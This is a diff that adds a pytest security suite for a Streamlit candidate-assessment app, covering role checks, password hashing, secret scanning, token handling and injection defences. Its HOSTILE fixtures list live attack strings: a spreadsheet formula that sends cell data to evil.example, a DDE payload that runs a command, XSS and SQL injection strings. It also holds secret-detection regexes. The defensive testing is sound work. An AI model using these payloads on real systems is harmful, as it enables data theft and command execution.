@@ -1,0 +1,424 @@
+"""Security checks named in docs/security.md: page access, staff sign-in, secrets in the
+repository, token handling, formula-safe exports, markup escaping, SQL and upload limits."""
+
+from __future__ import annotations
+
+import ast
+import csv
+import datetime as dt
+import io
+import re
+import subprocess
+import tomllib
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+import streamlit as st
+from sqlalchemy import select
+from streamlit.testing.v1 import AppTest
+
+from app_pages.markup import md_escape
+from assessment.accounts import ROLES, LoginError, StaffUser, add_user, authenticate
+from assessment.demo import ensure_active_model
+from assessment.overview import FORMULA_PREFIXES, candidate_overview, invite_candidates
+from assessment.overview import InvitationRequest as Request
+from assessment.privacy import backup_database
+from assessment.store import InvitationError, Store
+from assessment.tables import User
+from items import load_bank
+
+ROOT = Path(__file__).resolve().parents[1]
+PAGES = ROOT / "app_pages"
+PUBLIC_PAGES = {"login.py", "candidate.py"}
+PRODUCT_CODE = ("app.py", "app_pages", "assessment", "cli", "items", "reports", "scoring")
+TIMEOUT = 60
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "<script>alert(1)</script>",
+    "[click](javascript:alert(1))",
+    ":red[**big**] $x^2$ <img src=x onerror=alert(1)>",
+    "Robert'); DROP TABLE candidates;--",
+)
+
+
+# ---------------------------------------------------------------------------- fixtures
+@pytest.fixture
+def app_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
+    """An empty migrated SQLite store that the app under test uses (SJT_DATABASE_URL)."""
+    url = f"sqlite:///{tmp_path / 'app.db'}"
+    monkeypatch.setenv("SJT_DATABASE_URL", url)
+    monkeypatch.chdir(ROOT)
+    st.cache_resource.clear()
+    store = Store.open(url)
+    yield store
+    st.cache_resource.clear()
+    store.engine.dispose()
+
+
+@pytest.fixture
+def sqlite_store(tmp_path: Path) -> Iterator[Store]:
+    store = Store.open(f"sqlite:///{tmp_path / 'security.db'}")
+    yield store
+    store.engine.dispose()
+
+
+# ------------------------------------------------------------------- pages and roles
+def routed_staff_pages() -> dict[str, tuple[str, ...]]:
+    """Page file name → roles allowed, read from ``STAFF_PAGES`` in app.py."""
+    tree = ast.parse((ROOT / "app.py").read_text(encoding="utf-8"))
+    pages: dict[str, tuple[str, ...]] = {}
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Assign) and any(
+            isinstance(target, ast.Name) and target.id == "STAFF_PAGES" for target in node.targets
+        ):
+            assert isinstance(node.value, ast.List)
+            for entry in node.value.elts:
+                assert isinstance(entry, ast.Tuple)
+                page, roles = entry.elts
+                assert isinstance(page, ast.Call)
+                path = ast.literal_eval(page.args[0])
+                pages[Path(path).name] = tuple(ast.literal_eval(roles))
+    return pages
+
+
+def page_modules() -> list[str]:
+    """Files in app_pages/ that render a page (call ``render()`` at module level)."""
+    found = []
+    for path in sorted(PAGES.glob("*.py")):
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        for node in tree.body:
+            call = node.value if isinstance(node, ast.Expr) else None
+            if isinstance(call, ast.Call) and getattr(call.func, "id", None) == "render":
+                found.append(path.name)
+    return found
+
+
+STAFF_PAGES = sorted((set(page_modules()) | set(routed_staff_pages())) - PUBLIC_PAGES)
+WRONG_ROLES = [
+    (page, role)
+    for page in STAFF_PAGES
+    for role in ROLES
+    if role != "admin" and role not in routed_staff_pages().get(page, ("admin",))
+]
+
+
+def rendered_types(app: AppTest) -> list[str]:
+    """The type of every element the page put on screen (main area and sidebar)."""
+    types: list[str] = []
+
+    def walk(node: object) -> None:
+        for child in getattr(node, "children", {}).values():
+            if hasattr(child, "children"):
+                walk(child)
+            else:
+                types.append(str(getattr(child, "type", type(child).__name__)))
+
+    walk(app.main)
+    walk(app.sidebar)
+    return types
+
+
+def open_page(page: str, user: StaffUser | None, last_seen: dt.datetime | None = None) -> AppTest:
+    app = AppTest.from_file(str(PAGES / page), default_timeout=TIMEOUT)
+    if user is not None:
+        app.session_state["user"] = user
+        app.session_state["last_seen"] = last_seen or dt.datetime.now(dt.UTC)
+    return app.run()
+
+
+def test_every_staff_page_is_found() -> None:
+    assert {"recruiter.py", "psychometrics.py"} <= set(STAFF_PAGES)
+    assert set(routed_staff_pages()) <= set(page_modules())
+
+
+@pytest.mark.parametrize("page", STAFF_PAGES)
+def test_staff_pages_show_nothing_but_a_sign_in_request_to_anonymous_users(
+    app_db: Store, page: str
+) -> None:
+    app = open_page(page, None)
+    assert not app.exception
+    assert [e.value for e in app.error] == ["Please sign in to see this page."]
+    assert rendered_types(app) == ["error"]
+
+
+@pytest.mark.parametrize(("page", "role"), WRONG_ROLES)
+def test_staff_pages_show_nothing_to_other_roles(app_db: Store, page: str, role: str) -> None:
+    app = open_page(page, StaffUser("mallory", role))
+    assert not app.exception
+    assert [e.value for e in app.error] == ["Your role does not give access to this page."]
+    assert rendered_types(app) == ["error"]
+
+
+@pytest.mark.parametrize("page", STAFF_PAGES)
+def test_staff_pages_check_the_role_before_any_other_call(page: str) -> None:
+    """``render`` starts with ``require_role`` and nothing else runs at import time."""
+    tree = ast.parse((PAGES / page).read_text(encoding="utf-8"))
+    render = next(
+        node for node in tree.body if isinstance(node, ast.FunctionDef) and node.name == "render"
+    )
+    first = render.body[0]
+    call = first.value if isinstance(first, ast.Assign | ast.Expr) else None
+    assert isinstance(call, ast.Call)
+    assert getattr(call.func, "id", None) == "require_role"
+    top_level_calls = [
+        ast.unparse(node)
+        for node in tree.body
+        if isinstance(node, ast.Expr) and isinstance(node.value, ast.Call)
+    ]
+    assert top_level_calls == ["render()"]
+
+
+def test_idle_staff_sessions_are_signed_out(app_db: Store) -> None:
+    stale = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=31)
+    app = open_page(STAFF_PAGES[0], StaffUser("admin", "admin"), last_seen=stale)
+    assert [e.value for e in app.error] == ["Please sign in to see this page."]
+    assert "user" not in app.session_state
+
+
+# --------------------------------------------------------------------- staff sign-in
+def test_sign_in_starts_from_an_empty_session_state(app_db: Store) -> None:
+    add_user(app_db, "rita", "correct-horse-battery", "recruiter", actor="test")
+    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=TIMEOUT)
+    app.session_state["planted"] = "set before sign-in"
+    app.run()
+    app.text_input[0].input("rita")
+    app.text_input[1].input("correct-horse-battery")
+    app.button[0].click().run()
+    assert app.session_state["user"] == StaffUser("rita", "recruiter")
+    assert "planted" not in app.session_state
+
+
+def test_passwords_are_stored_as_argon2id_hashes(sqlite_store: Store) -> None:
+    add_user(sqlite_store, "rita", "correct-horse-battery", "recruiter")
+    with sqlite_store.transaction() as db:
+        stored = db.scalar(select(User.password_hash).where(User.username == "rita"))
+    assert stored is not None
+    assert stored.startswith("$argon2id$")
+    assert "correct-horse-battery" not in stored
+
+
+def test_login_errors_do_not_tell_whether_the_user_exists(sqlite_store: Store) -> None:
+    add_user(sqlite_store, "rita", "correct-horse-battery", "recruiter")
+    messages = []
+    for username in ("rita", "nobody"):
+        with pytest.raises(LoginError) as caught:
+            authenticate(sqlite_store, username, "wrong password!")
+        messages.append(str(caught.value))
+    assert messages[0] == messages[1]
+    assert {e.action for e in sqlite_store.audit_entries()} >= {"login.failed", "login.unknown"}
+
+
+def test_short_passwords_are_refused(sqlite_store: Store) -> None:
+    with pytest.raises(Exception, match="at least"):
+        add_user(sqlite_store, "rita", "short", "recruiter")
+
+
+# ------------------------------------------------------------------ secrets in the repo
+SECRET_PATTERNS = {
+    "private key": re.compile(r"-----BEGIN (?:[A-Z]+ )*PRIVATE KEY-----"),
+    "AWS access key": re.compile(r"\bAKIA[0-9A-Z]{16}\b"),
+    "GitHub token": re.compile(r"\bgh[pousr]_[A-Za-z0-9]{36,}\b"),
+    "Slack token": re.compile(r"\bxox[abprs]-[A-Za-z0-9-]{10,}"),
+    "Stripe key": re.compile(r"\bsk_live_[A-Za-z0-9]{16,}"),
+    "password in a URL": re.compile(r"\b[a-z][a-z0-9+.-]*://[^/\s:@'\"]+:[^/\s@'\"{}]{3,}@"),
+}
+ASSIGNED_SECRET = re.compile(
+    r"""(?i)\b(?:password|passwd|secret|api_key|apikey|access_token)\s*[:=]\s*["'][^"'\s]{8,}["']"""
+)
+
+
+def repository_files() -> list[Path]:
+    """Files git would commit (tracked plus untracked, not ignored)."""
+    try:
+        listed = subprocess.run(
+            ["git", "ls-files", "--cached", "--others", "--exclude-standard", "-z"],
+            cwd=ROOT, capture_output=True, check=True, timeout=60,
+        ).stdout.decode("utf-8").split("\0")  # fmt: skip
+    except (OSError, subprocess.SubprocessError):
+        pytest.skip("git is not available to list the repository's files")
+    return [ROOT / name for name in listed if name and (ROOT / name).is_file()]
+
+
+def test_no_secrets_are_committed() -> None:
+    findings = []
+    for path in repository_files():
+        if path.stat().st_size > 2_000_000:
+            continue
+        try:
+            content = path.read_text(encoding="utf-8")
+        except UnicodeDecodeError:
+            continue  # binary (fonts, images)
+        relative = path.relative_to(ROOT).as_posix()
+        for what, pattern in SECRET_PATTERNS.items():
+            findings += [f"{relative}: {what}" for _ in pattern.finditer(content)]
+        if relative.split("/")[0] in PRODUCT_CODE:  # tests may hold fixture passwords
+            findings += [f"{relative}: {m.group(0)}" for m in ASSIGNED_SECRET.finditer(content)]
+    assert not findings
+
+
+def test_streamlit_secrets_file_is_not_committed() -> None:
+    names = {path.relative_to(ROOT).as_posix() for path in repository_files()}
+    assert ".streamlit/secrets.toml" not in names
+    assert not any(name.endswith((".pem", ".key", ".p12", ".env")) for name in names)
+
+
+# ------------------------------------------------------------------------ tokens
+def test_invitation_tokens_reach_neither_the_database_nor_the_audit_log(
+    sqlite_store: Store, tmp_path: Path
+) -> None:
+    created = invite_candidates(
+        sqlite_store, [Request("Ada", "ada@example.com", None, None)], actor="rita"
+    )
+    token = created[0][1]
+    backup = backup_database(sqlite_store, tmp_path / "all.jsonl")
+    everything = backup.path.read_text(encoding="utf-8")
+    assert token not in everything
+    assert sqlite_store.audit_entries("invite")
+    assert sqlite_store.resolve_token(token).candidate_id == created[0][0]
+
+
+# --------------------------------------------------------------- injection and markup
+def test_scores_export_neutralises_formulas_in_every_text_cell(sqlite_store: Store) -> None:
+    for n, name in enumerate(HOSTILE):
+        candidate = sqlite_store.add_candidate(name, f"{name[:1]}x{n}@example.com", name)
+        sqlite_store.create_invitation(candidate)
+    from assessment.overview import scores_csv
+
+    rows = list(csv.reader(io.StringIO(scores_csv(candidate_overview(sqlite_store)))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
+    names = {row[rows[0].index("display_name")] for row in rows[1:]}
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in names
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_markdown_escaping_leaves_no_active_character(text: str) -> None:
+    escaped = md_escape(text)
+    bare = re.sub(r"\\.", "", escaped)  # drop every escaped character
+    assert not re.search(r"[<>\[\]()*_`#|~:$=!&\"'\\-]", bare), escaped
+    assert "http:" not in escaped  # no autolink either
+    literal = re.sub(r"\\(.)", r"\1", escaped).replace("\u200b", "")
+    assert literal == text.replace("\t", " ").strip()
+
+
+def test_no_page_renders_raw_html() -> None:
+    offenders = [
+        f"{path.name}:{number}"
+        for path in [ROOT / "app.py", *sorted(PAGES.glob("*.py"))]
+        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
+        if re.search(r"unsafe_allow_html\s*=\s*True|st\.html\(|components\.html\(", line)
+    ]
+    assert not offenders
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_sql_metacharacters_are_stored_literally(sqlite_store: Store, name: str) -> None:
+    candidate = sqlite_store.add_candidate(name, "x@example.com", name)
+    stored = sqlite_store.candidate(candidate)
+    assert stored is not None
+    assert stored.display_name == name
+    assert sqlite_store.count_candidates() == 1
+    with pytest.raises(InvitationError, match="unknown"):
+        sqlite_store.resolve_token(f"{name}' OR '1'='1")
+
+
+REVIEWED_SQL = {
+    ("assessment/db.py", 'cursor.execute(f"PRAGMA busy_timeout={busy_timeout_ms()}")'):
+        "busy_timeout_ms() returns an int; PRAGMA takes no bound parameters",
+}  # fmt: skip
+"""String-built SQL that was reviewed: (file, line) → why it is safe."""
+SQL_FROM_STRINGS = re.compile(
+    r"""\b(text|exec_driver_sql|execute)\(\s*(?:f["']|["'][^"']*["']\s*[%+]|["'][^"']*["']\.format)"""
+)
+
+
+def test_product_code_builds_no_sql_from_strings() -> None:
+    """SQL goes through SQLAlchemy expressions or ``text()`` with bound parameters only."""
+    findings = []
+    for part in PRODUCT_CODE:
+        base = ROOT / part
+        for path in [base] if base.is_file() else sorted(base.rglob("*.py")):
+            relative = path.relative_to(ROOT).as_posix()
+            content = path.read_text(encoding="utf-8")
+            sqlalchemy_text = re.search(
+                r"from sqlalchemy import (?:\([^)]*|[^\n]*)\btext\b|sqlalchemy\.text", content
+            )
+            for line in content.splitlines():
+                match = SQL_FROM_STRINGS.search(line)
+                if match is None or (relative, line.strip()) in REVIEWED_SQL:
+                    continue
+                if match.group(1) == "text" and not sqlalchemy_text:
+                    continue  # another function called text (the page wording)
+                findings.append(f"{relative}: {line.strip()}")
+    assert not findings
+
+
+# ---------------------------------------------------------------------- uploads
+def test_uploads_are_limited_in_size_everywhere() -> None:
+    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
+    assert config["server"]["maxUploadSize"] <= 20
+    assert config["client"]["showErrorDetails"] == "none"
+    unlimited = []
+    for path in sorted(PAGES.glob("*.py")):
+        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
+            if (
+                isinstance(node, ast.Call)
+                and getattr(node.func, "attr", None) == "file_uploader"
+                and not any(keyword.arg == "max_upload_size" for keyword in node.keywords)
+            ):
+                unlimited.append(f"{path.name}:{node.lineno}")
+    assert not unlimited
+
+
+# -------------------------------------------------------------- item-bank exposure
+def test_the_candidate_page_never_shows_credits_or_rationales(app_db: Store) -> None:
+    bank = load_bank()
+    ensure_active_model(app_db, bank)
+    candidate = app_db.add_candidate("Test candidate")
+    _, token = app_db.create_invitation(candidate)
+    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=TIMEOUT)
+    app.query_params["token"] = token
+    app.run()
+    app.button[0].click().run()  # English
+    app.checkbox[0].check()
+    app.button[0].click().run()  # consent
+    app.button[0].click().run()  # practice done
+    assert app.radio, "the first item should be on screen"
+    item_id = next(iter(app.radio)).key.split("-", 1)[1]
+    item = bank[item_id]
+    shown = [str(e.value) for e in (*app.markdown, *app.subheader, *app.caption)]
+    shown += [str(option) for radio in app.radio for option in radio.options]
+    page = re.sub(r"\\(.)", r"\1", "\n".join(shown)).replace("\u200b", "")  # as read
+    assert item.scenario.en in page
+    for option in item.options:
+        assert option.rationale.en not in page
+    assert "credit" not in page.lower()
+    assert len(app_db.audit_entries()) == 1  # only the model activation; nothing about answers
+
+
+# ------------------------------------------------------------------- the threat model
+def test_threat_model_names_only_existing_tests() -> None:
+    """Every ``tests/…::name`` in docs/security.md is a test function that exists."""
+    document = (ROOT / "docs" / "security.md").read_text(encoding="utf-8")
+    references = set(re.findall(r"(tests/[\w/]+\.py)::(\w+)", document))
+    assert len(references) > 40
+    missing = []
+    for file, name in sorted(references):
+        path = ROOT / file
+        functions = (
+            {
+                node.name
+                for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
+                if isinstance(node, ast.FunctionDef)
+            }
+            if path.exists()
+            else set()
+        )
+        if name not in functions:
+            missing.append(f"{file}::{name}")
+    assert not missing
